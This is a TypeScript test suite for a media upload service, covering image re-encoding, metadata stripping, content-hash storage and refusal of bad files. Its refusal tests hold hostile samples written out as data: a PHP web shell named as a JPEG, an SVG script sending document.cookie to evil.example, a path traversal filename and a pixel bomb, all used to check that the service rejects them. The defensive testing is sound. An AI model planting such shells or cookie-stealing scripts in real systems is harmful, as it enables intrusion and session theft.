import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { contentKey, type FileStorage } from '../../lib/storage/file-storage';
import { createLocalDiskStorage } from '../../lib/storage/local-disk-storage';
import { MAX_BYTES, MAX_SVG_BYTES } from '../../../contract/media-rules';
import {
  cleanFilename,
  storeUpload,
  uploadDepsFromConfig,
  type StoredUpload,
  type UploadDeps,
  type UploadInput,
} from './service';
import { UploadRefusedError } from './upload-refused';
import {
  animatedGif,
  ebml,
  FILMED_AT,
  mp4,
  pdf,
  phoneJpeg,
  photo,
  pngBomb,
  simpleSvg,
  webm,
} from './upload-test-files';

let dataDir: string;
let uploadsDir: string;
let deps: UploadDeps;
let puts: string[];

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

/** The local disk store, counting what is written to it. */
function countingStorage(root: string): FileStorage {
  const storage = createLocalDiskStorage({ root });
  return {
    ...storage,
    put(key, body, contentType) {
      puts.push(key);
      return storage.put(key, body, contentType);
    },
  };
}

function storedFiles(): string[] {
  if (!fs.existsSync(dataDir)) return [];
  return (fs.readdirSync(dataDir, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(dataDir, path.join(entry.parentPath, entry.name)))
    .sort();
}

beforeEach(() => {
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'uploads-'));
  uploadsDir = path.join(dataDir, 'uploads');
  puts = [];
  deps = { storage: countingStorage(uploadsDir), scratchDir: path.join(dataDir, 'tmp', 'uploads') };
});

afterEach(() => {
  fs.rmSync(dataDir, { recursive: true, force: true });
});

async function refused(input: UploadInput): Promise<UploadRefusedError> {
  const error = await storeUpload(deps, input).then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(UploadRefusedError);
  // Nothing of a refused upload is kept, not even a scratch file.
  expect(storedFiles()).toEqual([]);
  return error as UploadRefusedError;
}

/** Each stored file is where its key says, named by the hash of exactly its bytes. */
function expectContentAddressed(upload: StoredUpload) {
  for (const variant of upload.variants) {
    const bytes = fs.readFileSync(path.join(uploadsDir, variant.key));
    expect(variant.key).toBe(contentKey(sha256(bytes), variant.key.split('.').pop()!));
    expect(variant.key).toMatch(/^by-hash\/([0-9a-f]{2})\/\1[0-9a-f]{30}\.(webp|svg|pdf|mp4|webm)$/);
    expect(variant.path).toBe(`uploads/${variant.key}`);
    expect(variant.bytes).toBe(bytes.length);
  }
}

describe('storeUpload: what is accepted', () => {
  it('re-encodes a phone photo to WebP copies and describes them for the media library', async () => {
    const jpeg = await phoneJpeg(2000, 1500);
    const upload = await storeUpload(deps, {
      kind: 'image',
      filename: 'C:\\Users\\staff\\IMG_20261102.jpg',
      source: jpeg,
    });

    expect(upload).toMatchObject({
      kind: 'image',
      format: 'jpeg',
      filename: 'IMG_20261102.jpg',
      sha256: sha256(jpeg),
      bytes: jpeg.length,
      width: 2000,
      height: 1500,
      warnings: [],
    });
    expect(upload.variants.map(({ width, height, contentType }) => ({ width, height, contentType }))).toEqual([
      { width: 1280, height: 960, contentType: 'image/webp' },
      { width: 640, height: 480, contentType: 'image/webp' },
      { width: 320, height: 240, contentType: 'image/webp' },
    ]);
    expectContentAddressed(upload);
    // The original, with its GPS position, is never written anywhere.
    expect(storedFiles()).toHaveLength(3);
    for (const file of storedFiles()) {
      const bytes = fs.readFileSync(path.join(dataDir, file));
      expect(bytes.includes('WGS-84')).toBe(false);
      expect((await sharp(bytes).metadata()).exif).toBeUndefined();
    }
  });

  it.each(['png', 'webp', 'gif'] as const)('accepts a %s photo as WebP copies', async (format) => {
    const upload = await storeUpload(deps, {
      kind: 'image',
      filename: `photo.${format}`,
      source: await photo(500, 300, format),
    });
    expect(upload.format).toBe(format);
    expect(upload.variants.map((variant) => [variant.width, variant.contentType])).toEqual([
      [500, 'image/webp'],
      [320, 'image/webp'],
    ]);
    expectContentAddressed(upload);
  });

  it('keeps an animated GIF animated', async () => {
    const upload = await storeUpload(deps, {
      kind: 'image',
      filename: 'how-upi-works.gif',
      source: await animatedGif(300, 200),
    });
    const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key));
    expect((await sharp(stored, { animated: true }).metadata()).pages).toBe(3);
  });

  it('takes a photo as a stream (as a multipart upload arrives)', async () => {
    const jpeg = await photo(640, 480);
    const chunks = [jpeg.subarray(0, 1000), jpeg.subarray(1000, 5000), jpeg.subarray(5000)];
    const upload = await storeUpload(deps, { kind: 'image', filename: 'streamed.jpg', source: Readable.from(chunks) });
    expect(upload.sha256).toBe(sha256(jpeg));
    expect(upload.variants.map((variant) => variant.width)).toEqual([640, 320]);
  });

  it('stores a clean SVG as it is, with its size', async () => {
    const svg = simpleSvg();
    const upload = await storeUpload(deps, { kind: 'image', filename: 'logo.svg', source: Buffer.from(svg) });
    expect(upload).toMatchObject({ format: 'svg', width: 40, height: 30, warnings: [] });
    expect(upload.variants).toHaveLength(1);
    expect(upload.variants[0]).toMatchObject({ contentType: 'image/svg+xml', width: 40, height: 30 });
    expect(fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key), 'utf8')).toBe(svg);
    expectContentAddressed(upload);
  });

  it('stores an SVG without what it pointed outside, and says what went', async () => {
    const upload = await storeUpload(deps, {
      kind: 'image',
      filename: 'map.svg',
      source: Buffer.from(
        simpleSvg(
          '<image href="https://tracker.example/p.png" width="5" height="5"/><rect width="5" height="5" fill="red"/>',
        ),
      ),
    });
    expect(upload.warnings).toEqual([
      'Removed a picture inside the drawing (<image>): an SVG image here shows only its own shapes, text and colours.',
    ]);
    const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key), 'utf8');
    expect(stored).not.toContain('tracker');
    expect(stored).toContain('fill="red"');
  });

  it('stores a PDF document as uploaded', async () => {
    const document = await pdf();
    const upload = await storeUpload(deps, { kind: 'document', filename: 'savings-plan.pdf', source: document });
    expect(upload).toMatchObject({ kind: 'document', format: 'pdf', bytes: document.length });
    expect(upload.variants[0]).toMatchObject({ contentType: 'application/pdf', bytes: document.length });
    expect(fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key)).equals(document)).toBe(true);
    expectContentAddressed(upload);
  });

  it('stores a WebM video from a stream as uploaded, through a scratch file that is then removed', async () => {
    const video = ebml('webm');
    const upload = await storeUpload(deps, {
      kind: 'video',
      filename: 'film.webm',
      source: Readable.from([video.subarray(0, 100), video.subarray(100)]),
    });
    expect(upload).toMatchObject({ kind: 'video', format: 'webm', sha256: sha256(video), bytes: video.length });
    expect(upload.variants[0]).toMatchObject({
      contentType: 'video/webm',
      bytes: video.length,
      key: contentKey(sha256(video), 'webm'),
    });
    expect(fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key)).equals(video)).toBe(true);
    expect(fs.readdirSync(deps.scratchDir)).toEqual([]);
  });

  it('stores an MP4 video without the place it was filmed, named by what was stored', async () => {
    const video = mp4();
    const upload = await storeUpload(deps, {
      kind: 'video',
      filename: 'film.mp4',
      source: Readable.from([video.subarray(0, 100), video.subarray(100)]),
    });
    expect(upload).toMatchObject({ kind: 'video', format: 'mp4', sha256: sha256(video), bytes: video.length });
    expect(upload.variants[0]).toMatchObject({ contentType: 'video/mp4', bytes: video.length });
    const stored = fs.readFileSync(path.join(uploadsDir, upload.variants[0]!.key));
    expect(stored.includes(FILMED_AT)).toBe(false);
    expect(stored.subarray(stored.indexOf('mdat') - 4).equals(video.subarray(video.indexOf('mdat') - 4))).toBe(true);
    expectContentAddressed(upload);
    expect(fs.readdirSync(deps.scratchDir)).toEqual([]);
  });

  it('reads how long a video plays from its header, and stores one whose header does not say', async () => {
    const film = await storeUpload(deps, {
      kind: 'video',
      filename: 'film.mp4',
      source: mp4(undefined, undefined, 2048, 95_000),
    });
    expect(film.durationMs).toBe(95_000);
    const recording = await storeUpload(deps, { kind: 'video', filename: 'talk.webm', source: webm(8_250) });
    expect(recording).toMatchObject({ format: 'webm', durationMs: 8_250 });
    const live = await storeUpload(deps, { kind: 'video', filename: 'live.webm', source: webm(null) });
    expect(live.durationMs).toBeUndefined();
    expect(live.variants).toHaveLength(1);
    const document = await storeUpload(deps, { kind: 'document', filename: 'a.pdf', source: await pdf() });
    expect(document.durationMs).toBeUndefined();
  });

  it('refuses a cut-off MP4 video', async () => {
    const video = mp4();
    const error = await refused({ kind: 'video', filename: 'cut.mp4', source: video.subarray(0, video.length - 500) });
    expect([error.code, error.statusCode]).toEqual(['uploadDamaged', 422]);
  });
});

describe('storeUpload: named by content', () => {
  it('stores the same photo once, however often and under whatever name it is uploaded', async () => {
    const jpeg = await photo(900, 600);
    const first = await storeUpload(deps, { kind: 'image', filename: 'a.jpg', source: jpeg });
    const filesAfterFirst = storedFiles();
    const putsAfterFirst = puts.length;
    const second = await storeUpload(deps, { kind: 'image', filename: 'copy of a.jpg', source: jpeg });

    expect(second.variants.map((variant) => variant.key)).toEqual(first.variants.map((variant) => variant.key));
    expect(second.sha256).toBe(first.sha256);
    expect(storedFiles()).toEqual(filesAfterFirst);
    expect(puts).toHaveLength(putsAfterFirst);
  });

  it('does not process or store again a file the caller says is stored, once it is found to be of the kind', async () => {
    const jpeg = await photo(600, 400);
    const asked: string[] = [];
    const isStored = async (hash: string) => {
      asked.push(hash);
      return true;
    };
    const repeat = await storeUpload(deps, { kind: 'image', filename: 'again.jpg', source: jpeg, isStored });
    expect(repeat).toMatchObject({
      kind: 'image',
      format: 'jpeg',
      sha256: sha256(jpeg),
      bytes: jpeg.length,
      repeat: true,
      variants: [],
    });
    expect(asked).toEqual([sha256(jpeg)]);
    expect(storedFiles()).toEqual([]);

    const document = await pdf();
    expect(await storeUpload(deps, { kind: 'document', filename: 'a.pdf', source: document, isStored })).toMatchObject({
      repeat: true,
      variants: [],
    });
    expect(storedFiles()).toEqual([]);

    // The kind is still checked: a stored photo uploaded as a document is refused, not found.
    const error = await refused({ kind: 'document', filename: 'again.pdf', source: jpeg, isStored });
    expect(error.code).toBe('uploadNotAccepted');
    expect(asked).toHaveLength(2);
  });

  it('gives different photos different keys', async () => {
    const a = await storeUpload(deps, { kind: 'image', filename: 'a.jpg', source: await photo(400, 300) });
    const b = await storeUpload(deps, { kind: 'image', filename: 'b.jpg', source: await photo(400, 300) });
    expect(a.variants[0]!.key).not.toBe(b.variants[0]!.key);
  });

  it('stores the same document and video once too', async () => {
    const document = await pdf();
    await storeUpload(deps, { kind: 'document', filename: 'a.pdf', source: document });
    await storeUpload(deps, { kind: 'document', filename: 'b.pdf', source: document });
    await storeUpload(deps, { kind: 'video', filename: 'a.mp4', source: mp4() });
    await storeUpload(deps, { kind: 'video', filename: 'b.mp4', source: mp4() });
    expect(puts).toHaveLength(2);
  });
});

describe('storeUpload: what is refused, and why', () => {
  const ACCEPTED_IMAGES =
    "Accepted images: JPEG, PNG, WebP, GIF or SVG (the type is read from the file's content, not its name).";

  it('refuses an empty file', async () => {
    const error = await refused({ kind: 'image', filename: 'photo.jpg', source: Buffer.alloc(0) });
    expect([error.code, error.statusCode, error.message]).toEqual(['uploadEmpty', 400, 'The file is empty.']);
  });

  it('refuses files over the limit of their kind', async () => {
    const jpegStart = Buffer.from([0xff, 0xd8, 0xff, 0xe0]);
    const cases: [UploadInput, string][] = [
      [
        { kind: 'image', filename: 'big.jpg', source: Buffer.concat([jpegStart, Buffer.alloc(11 * 1024 * 1024)]) },
        'Images can be at most 10 MB; this file is 11.1 MB.',
      ],
      [
        {
          kind: 'image',
          filename: 'big.svg',
          source: Buffer.from(simpleSvg(`<desc>${'x'.repeat(MAX_SVG_BYTES)}</desc>`)),
        },
        'SVG images can be at most 1 MB; this file is 1.1 MB.',
      ],
      [
        {
          kind: 'document',
          filename: 'big.pdf',
          source: Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(MAX_BYTES.document)]),
        },
        'Documents can be at most 20 MB; this file is 20.1 MB.',
      ],
      [
        { kind: 'video', filename: 'big.mp4', source: Buffer.allocUnsafe(MAX_BYTES.video + 1) },
        'Videos can be at most 200 MB; this file is 200.1 MB.',
      ],
    ];
    for (const [input, message] of cases) {
      const error = await refused(input);
      expect([error.code, error.statusCode, error.message]).toEqual(['uploadTooLarge', 413, message]);
    }
  });

  it('stops reading an oversized stream at the limit', async () => {
    let chunksRead = 0;
    const megabyte = Buffer.alloc(1024 * 1024);
    async function* endless() {
      megabyte[0] = 0xff;
      while (true) {
        chunksRead += 1;
        yield megabyte;
      }
    }
    const error = await refused({ kind: 'image', filename: 'endless.jpg', source: endless() });
    expect(error.message).toBe('Images can be at most 10 MB; this file is larger.');
    expect(chunksRead).toBe(11);
  });

  it.each([
    [
      'a PHP script named .jpg',
      'image',
      'shell.jpg',
      Buffer.from('<?php system($_GET["c"]); ?>'),
      `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`,
    ],
    [
      'an HTML page named .jpg',
      'image',
      'photo.jpg',
      Buffer.from('<!DOCTYPE html><html><script>alert(1)</script></html>'),
      `This file is not an image of an accepted type. ${ACCEPTED_IMAGES}`,
    ],
    [
      'a video given as an image',
      'image',
      'poster.png',
      mp4(),
      `This file is an MP4 video, not an image. ${ACCEPTED_IMAGES}`,
    ],
    [
      'a PDF given as a video',
      'video',
      'film.mp4',
      Buffer.from('%PDF-1.4\n%%EOF'),
      "This file is a PDF document, not a video. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name).",
    ],
    [
      'a QuickTime film',
      'video',
      'film.mov',
      mp4('qt  ', ['qt  ']),
      "This file is not a video of an accepted type. Accepted videos: MP4 or WebM (the type is read from the file's content, not its name).",
    ],
  ] as const)('refuses %s', async (_name, kind, filename, source, message) => {
    const error = await refused({ kind, filename, source });
    expect([error.code, error.statusCode, error.message]).toEqual(['uploadNotAccepted', 415, message]);
  });

  it('refuses a PNG declared as a PDF document', async () => {
    const error = await refused({
      kind: 'document',
      filename: 'annual-report.pdf',
      source: await photo(64, 64, 'png'),
    });
    expect([error.code, error.statusCode]).toEqual(['uploadNotAccepted', 415]);
    expect(error.message).toBe(
      "This file is a PNG image, not a PDF document. Accepted documents: PDF (the type is read from the file's content, not its name).",
    );
  });

  it('refuses an SVG with script, naming what it found', async () => {
    const error = await refused({
      kind: 'image',
      filename: 'badge.svg',
      source: Buffer.from(
        simpleSvg(
          '<script>fetch("https://evil.example/?" + document.cookie)</script><rect onclick="alert(1)" width="1" height="1"/>',
        ),
      ),
    });
    expect([error.code, error.statusCode]).toEqual(['uploadActiveContent', 422]);
    expect(error.message).toBe(
      'SVG images with script are not accepted, and this one has the <script> element, the onclick attribute. Export the drawing again without interactivity (or as PNG) and upload that.',
    );
  });

  it('refuses an SVG that is not UTF-8 text, or not a whole drawing', async () => {
    const latin1 = await refused({
      kind: 'image',
      filename: 'a.svg',
      source: Buffer.concat([
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><text>caf'),
        Buffer.from([0xe9]),
        Buffer.from('</text></svg>'),
      ]),
    });
    expect(latin1.code).toBe('uploadDamaged');
    expect(latin1.message).toContain('it is not UTF-8 text');
    const broken = await refused({
      kind: 'image',
      filename: 'b.svg',
      source: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="-5" height="x"><rect'),
    });
    expect(broken.code).toBe('uploadDamaged');
  });

  it('refuses a truncated photo and a truncated PDF', async () => {
    const jpeg = await photo(800, 600);
    const cutPhoto = await refused({ kind: 'image', filename: 'cut.jpg', source: jpeg.subarray(0, jpeg.length / 2) });
    expect([cutPhoto.code, cutPhoto.statusCode]).toEqual(['uploadDamaged', 422]);
    const document = await pdf();
    const cutPdf = await refused({
      kind: 'document',
      filename: 'cut.pdf',
      source: document.subarray(0, document.length - 200),
    });
    expect(cutPdf.message).toBe(
      'The PDF document is incomplete (it does not end as a PDF does). Save it again and upload the new file.',
    );
  });

  it('refuses a pixel bomb', async () => {
    const error = await refused({ kind: 'image', filename: 'tiny.png', source: pngBomb(20_000, 20_000) });
    expect([error.code, error.statusCode]).toEqual(['uploadTooManyPixels', 422]);
    expect(error.message).toContain('20000 × 20000 pixels (400 megapixels)');
  });
});

describe('around storeUpload', () => {
  it('keeps a readable name: the last part of a path, no control characters, at most 200 characters', () => {
    expect(cleanFilename('../../etc/passwd')).toBe('passwd');
    expect(cleanFilename('C:\\fakepath\\बचत योजना.pdf')).toBe('बचत योजना.pdf');
    expect(cleanFilename('a\u0000b\nc\u007f.jpg')).toBe('abc.jpg');
    expect(cleanFilename('   ')).toBe('upload');
    expect(cleanFilename(`${'न'.repeat(300)}.jpg`)).toHaveLength(200);
  });

  it('stores under DATA_DIR/uploads and spools videos under DATA_DIR/tmp', async () => {
    const configured = uploadDepsFromConfig({ dataDir, uploadsDir });
    expect(configured.scratchDir).toBe(path.join(dataDir, 'tmp', 'uploads'));
    const upload = await storeUpload(configured, { kind: 'document', filename: 'plan.pdf', source: await pdf() });
    expect(fs.existsSync(path.join(uploadsDir, upload.variants[0]!.key))).toBe(true);
  });
});
